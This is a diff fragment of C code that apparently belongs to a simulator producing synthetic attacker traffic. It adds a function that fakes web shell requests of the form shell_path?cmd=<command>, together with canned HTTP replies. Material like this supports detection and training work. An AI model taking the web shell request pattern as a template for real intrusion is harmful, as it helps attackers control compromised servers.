+}
+
+bs_time web_shell(int server, uint32_t ip, bs_time t, const char *cmd, const char *output)
+{
+	struct webconn w;
+	web_begin(&w, server, ip, attacker_ua);
+	static struct buf uri, out;
+	buf_clear(&uri);
+	buf_printf(&uri, "%s?cmd=", WS[server].shell_path);
+	url_encode(&uri, cmd);
+	buf_clear(&out);
+	buf_printf(&out, "<pre>%s</pre>", output);
+	struct http_reply rep = { 200, "text/plain", NULL, out.p, out.n, false };
+	web_request(&w, t, "GET", uri.p, NULL, NULL, 0, &rep, -1);
+	web_end(&w);
+	attacker_seen(server, ip, t);
+	return t;
+}
